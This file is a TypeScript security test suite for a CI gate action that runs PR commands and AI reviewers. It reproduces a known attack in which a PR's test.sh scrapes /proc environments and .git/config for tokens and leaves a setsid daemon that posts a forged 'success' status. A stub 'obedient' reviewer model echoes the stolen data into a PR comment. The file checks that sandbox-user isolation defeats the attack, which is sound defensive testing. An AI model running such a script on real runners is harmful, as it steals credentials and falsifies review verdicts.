// "PR code in the gate job forges the verdict", replayed against the built action: the PR's test
// script hunts the gate's token and keys in /proc/<pid>/environ up the process tree and in the
// gate's files, leaves a `setsid` daemon that later posts `success` with whatever it found, and
// prints its loot for an obedient model to echo. The commands run as a throwaway user: nothing is
// found, the daemon dies with its uid before the verdict, and the status is the verdict's. Where
// no such user can be made, the commands are refused and the run blocks.
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { INSTALLATION_TOKEN } from '../emulators/github.js';
import { liveProcessesOf } from '../../src/checks/processes.js';
import { removeSandboxUser, sandboxUserExists } from '../sandbox-users.js';
import { reviewers } from './reviewers.js';
import {
  addPull,
  allSecrets,
  commentsOn,
  CRITERIA,
  markModelRequests,
  modelRequestsSince,
  OWNER,
  REPO,
  runOnPull,
  scriptAll,
  statusesOn,
  useWorld,
} from './fixtures.js';
import { scaled } from '../knobs.js';

const world = useWorld();
/** Sandbox users the tests saw: removed after the file whatever happened. */
const seenUsers: string[] = [];
afterAll(() => {
  for (const name of seenUsers) removeSandboxUser(name);
});

/** Every encoding a leak could take on its way out. */
function forms(secret: string): string[] {
  const hex = Buffer.from(secret).toString('hex');
  return [
    secret,
    hex,
    hex.toUpperCase(),
    [...secret].reverse().join(''),
    Buffer.from(secret).toString('base64'),
  ];
}

/** The PR's test script: the attack of issue #12, as a real test.sh would run it. */
const ATTACK = String.raw`#!/bin/sh
found=""
environs=""
p=$PPID
while [ -n "$p" ] && [ "$p" -gt 1 ]; do
  owner=$(sed -n 's/^Uid:[[:space:]]*\([0-9]*\).*/\1/p' /proc/$p/status 2>/dev/null)
  if vars=$(tr '\0' '\n' < /proc/$p/environ 2>/dev/null); then
    found="$found $(printf '%s\n' "$vars" | grep -E 'TOKEN|KEY' | tr '\n' ' ')"
    environs="$environs $p:$owner:readable"
  else
    environs="$environs $p:$owner:denied"
  fi
  p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status 2>/dev/null)
done
files=""
# the newest harness run directories (the running gate's is among them)
runs=$(ls -dt /tmp/done-gate-e2e-* 2>/dev/null | head -n 3)
for f in "$GATE_WORKSPACE/.git/config" $(for d in $runs; do echo "$d/event.json $d/output.txt"; done); do
  if content=$(cat "$f" 2>/dev/null); then found="$found $content"; files="$files $f:readable"; else files="$files $f:denied"; fi
done
found="$found $(cat .git/config)"
token=$(printf '%s\n' $found | sed -n 's/^INPUT_GITHUB-TOKEN=//p' | head -n 1)
setsid sh -c "sleep 3; node forge.mjs '$token'" >/dev/null 2>&1 < /dev/null &
echo "ENVIRONS:$environs"
echo "FILES:$files"
echo "SANDBOX-UID:$(id -u) SANDBOX-USER:$(id -un)"
echo "FOUND:$found"
echo "FOUNDHEX:$(printf '%s' "$found" | od -An -tx1 | tr -d ' \n')"
echo "FOUNDREV:$(printf '%s' "$found" | rev 2>/dev/null)"
echo "daemon started"
exit 1
`;

/** The daemon's payload: a `success` on the head, with whatever token the script found. */
function forgeScript(sha: string): string {
  return `const token = process.argv[2] ?? '';
await fetch('${world.gh.baseUrl}/repos/${OWNER}/${REPO}/statuses/${sha}', {
  method: 'POST',
  headers: { authorization: 'token ' + token, 'content-type': 'application/json' },
  body: JSON.stringify({ state: 'success', context: 'done-gate', description: 'forged by the PR daemon' }),
});
`;
}

async function attackWorkspace(sha: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'isolation-ws-'));
  await mkdir(join(dir, '.git'));
  // The attacker knows where runners check out (here: this directory).
  await writeFile(join(dir, 'test.sh'), ATTACK.replace('$GATE_WORKSPACE', dir));
  await writeFile(join(dir, 'forge.mjs'), forgeScript(sha));
  // What actions/checkout leaves when it persists credentials: the token in .git/config.
  const basic = Buffer.from(`x-access-token:${INSTALLATION_TOKEN}`).toString('base64');
  await writeFile(
    join(dir, '.git', 'config'),
    `[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${basic}\n`,
  );
  // Readable by anyone, as a runner's checkout may be: the gate must close it, not rely on it.
  await chmod(dir, 0o755);
  return dir;
}

/** Requests the daemon sent for this head (the emulator records them, valid token or not). */
function forgedRequests(sha: string): unknown[] {
  return world.gh.requests.filter(
    (r) =>
      r.method === 'POST' &&
      r.path.includes(sha) &&
      JSON.stringify(r.body ?? '').includes('forged by the PR daemon'),
  );
}

/** An obedient model: the adversary echoes whatever the command printed after FOUND. */
const echoing = () => {
  const clean = reviewers({ criteria: CRITERIA });
  return (ctx: Parameters<ReturnType<typeof reviewers>>[0]) => {
    if (ctx.lane === 'adversary' && (ctx.step ?? '').startsWith('holistic')) {
      const text = JSON.stringify(ctx.body);
      const at = text.indexOf('FOUND:');
      const loot = at < 0 ? 'nothing' : text.slice(at, at + 3000);
      return {
        json: {
          complaints: [
            {
              kind: 'echo',
              file: 'test.sh',
              line: 1,
              end_line: null,
              location: 'test.sh',
              violation: loot,
              fix: loot,
            },
          ],
        },
      };
    }
    return clean(ctx);
  };
};

describe('PR code in the gate job (issue #12, I12)', () => {
  it(
    'control: the same script, run the old way (a child of a process holding the token), forges success',
    async () => {
      const sha = addPull(world, 901);
      const ws = await attackWorkspace(sha);
      // A parent with the token in its environment, a child without it: what the gate used to be.
      const parent = spawn(
        process.execPath,
        [
          '-e',
          `require('child_process').spawn('/bin/sh', ['test.sh'], { env: { PATH: process.env.PATH }, stdio: 'inherit', detached: true }).on('exit', () => setTimeout(() => {}, 200))`,
        ],
        {
          cwd: ws,
          env: { PATH: process.env.PATH, 'INPUT_GITHUB-TOKEN': INSTALLATION_TOKEN },
          stdio: ['ignore', 'pipe', 'pipe'],
        },
      );
      let out = '';
      parent.stdout.on('data', (d: Buffer) => (out += d.toString()));
      await new Promise((done) => parent.on('close', done));
      expect(out).toContain(`INPUT_GITHUB-TOKEN=${INSTALLATION_TOKEN}`);
      await new Promise((done) => setTimeout(done, 4500));
      expect(statusesOn(world, sha)).toEqual(['success']);
      expect(forgedRequests(sha)).toHaveLength(1);
    },
    scaled(30_000),
  );
  it(
    'runs as a throwaway user: no key or token reaches it, its daemon dies before the verdict, and the status is the verdict',
    async () => {
      scriptAll(world, echoing());
      const sha = addPull(world, 902);
      const ws = await attackWorkspace(sha);
      const mark = markModelRequests(world);
      const run = await runOnPull(
        world,
        902,
        { 'verification-commands': JSON.stringify(['sh test.sh']) },
        { workspace: ws, env: { NODE_AUTH_TOKEN: 'npm_gateNodeAuthToken0123456789' } },
      );
      // The verdict: BLOCKED (the command is red), and that is the status.
      expect(run.outputs.verdict).toBe('BLOCKED');
      expect(run.exitCode).toBe(1);

      const requests = modelRequestsSince(world, mark);
      const adversary = requests.filter((r) => r.lane === 'adversary').map((r) => r.rawBody);
      const tail = adversary.find((b) => b.includes('SANDBOX-UID:')) ?? '';
      expect(tail).toContain('daemon started');
      // It ran as another user; the only environments it could read were its own processes'.
      const uid = Number(/SANDBOX-UID:(\d+)/.exec(tail)?.[1]);
      const user = /SANDBOX-USER:([a-z0-9-]+)/.exec(tail)?.[1] ?? '';
      seenUsers.push(user);
      expect(uid).toBeGreaterThan(0);
      expect(user).toMatch(/^dg-sandbox-[0-9a-f]{10}$/);
      const environs = (/ENVIRONS:([^\\]*)\\n/.exec(tail)?.[1] ?? '').trim().split(' ');
      const [readable, denied] = [':readable', ':denied'].map((s) =>
        environs.filter((e) => e.endsWith(s)),
      );
      expect(readable!.every((e) => e.split(':')[1] === String(uid))).toBe(true);
      // The gate (root, or a user with passwordless sudo as on GitHub's runners), sudo, and
      // everything above them: denied.
      const gateOwners = new Set(['0', String(process.getuid?.() ?? 0)]);
      expect(denied!.length).toBeGreaterThan(0);
      expect(denied!.every((e) => gateOwners.has(e.split(':')[1] ?? ''))).toBe(true);
      expect(environs.length).toBe(readable!.length + denied!.length);
      const files = /FILES:([^\\]*)\\n/.exec(tail)?.[1] ?? '';
      expect(files).toContain(`${ws}/.git/config:denied`);
      expect(files).not.toContain(':readable');

      // Nothing of the user is alive, and the user itself is gone.
      expect(liveProcessesOf(uid)).toEqual([]);
      expect(sandboxUserExists(user)).toBe(false);

      // No secret, in any form, reached a model, the comment or the summary.
      const comment = commentsOn(world, 902)[0]?.body ?? '';
      expect(comment).toContain('FOUND:'); // the obedient model did echo the loot
      const secrets = [...allSecrets(), 'npm_gateNodeAuthToken0123456789'];
      const basic = Buffer.from(`x-access-token:${INSTALLATION_TOKEN}`).toString('base64');
      for (const secret of secrets) {
        for (const form of [...forms(secret), basic]) {
          for (const body of requests.map((r) => r.rawBody)) expect(body).not.toContain(form);
          expect(comment).not.toContain(form);
          expect(run.summary).not.toContain(form);
        }
      }

      // Past the daemon's sleep: it never posted, and the status stays the verdict's.
      await new Promise((done) => setTimeout(done, 4000));
      expect(forgedRequests(sha)).toEqual([]);
      expect(statusesOn(world, sha)).toEqual(['pending', 'failure']);
    },
    scaled(60_000),
  );
  it(
    'a cancelled run (SIGTERM mid-command) still leaves no process and no user behind',
    async () => {
      scriptAll(world, reviewers({ criteria: CRITERIA }));
      const sha = addPull(world, 904);
      const ws = await mkdtemp(join(tmpdir(), 'isolation-ws-'));
      const shared = await mkdtemp(join(tmpdir(), 'isolation-shared-'));
      await chmod(shared, 0o777);
      // The command finds the gate by its command line (readable by anyone), reports it and its
      // own uid, leaves a daemon, and keeps running until the gate is cancelled.
      const command = [
        'p=$PPID; while [ -n "$p" ] && [ "$p" -gt 1 ]; do',
        '  if tr "\\0" " " < /proc/$p/cmdline | grep -q "dist/index.js"; then gate=$p; fi',
        '  p=$(sed -n "s/^PPid:[[:space:]]*//p" /proc/$p/status); done',
        'setsid sh -c "sleep 60" >/dev/null 2>&1 < /dev/null &',
        `echo "$(id -u) $(id -un) $gate" > ${shared}/who.tmp && mv ${shared}/who.tmp ${shared}/who`,
        'sleep 60',
      ].join('\n');
      const running = runOnPull(
        world,
        904,
        { 'verification-commands': JSON.stringify([command]) },
        { workspace: ws },
      );
      const who = join(shared, 'who');
      const until = Date.now() + scaled(30_000);
      while (!existsSync(who) && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
      const [uid, user, gate] = (await readFile(who, 'utf8')).trim().split(' ');
      seenUsers.push(user!);
      expect(Number(uid)).toBeGreaterThan(0);
      expect(liveProcessesOf(Number(uid)).length).toBeGreaterThanOrEqual(2);
      process.kill(Number(gate), 'SIGTERM');
      const run = await running;
      expect(run.exitCode).toBe(1);
      expect(statusesOn(world, sha)).toEqual(['pending', 'failure']);
      expect(liveProcessesOf(Number(uid))).toEqual([]);
      expect(sandboxUserExists(user!)).toBe(false);
    },
    scaled(60_000),
  );
  it('isolation unavailable → BLOCKED naming the hardened layout, and no command runs', async () => {
    scriptAll(world, reviewers({ criteria: CRITERIA }));
    const sha = addPull(world, 903);
    const ws = await mkdtemp(join(tmpdir(), 'isolation-ws-'));
    const marker = join(ws, 'ran-here');
    const run = await runOnPull(
      world,
      903,
      { 'verification-commands': JSON.stringify([`echo ran > ${marker}`]) },
      { workspace: ws, env: { DONE_GATE_ISOLATION_PROBE: 'unavailable' } },
    );
    expect(run.outputs.verdict).toBe('BLOCKED');
    expect(statusesOn(world, sha)).toEqual(['pending', 'failure']);
    const body = commentsOn(world, 903)[0]?.body ?? '';
    expect(body).toContain('commands not isolated');
    expect(body).toContain('checks-record-path');
    expect(body).toContain('done-gate run-checks');
    await expect(import('node:fs/promises').then((fs) => fs.access(marker))).rejects.toThrow();
  });
});
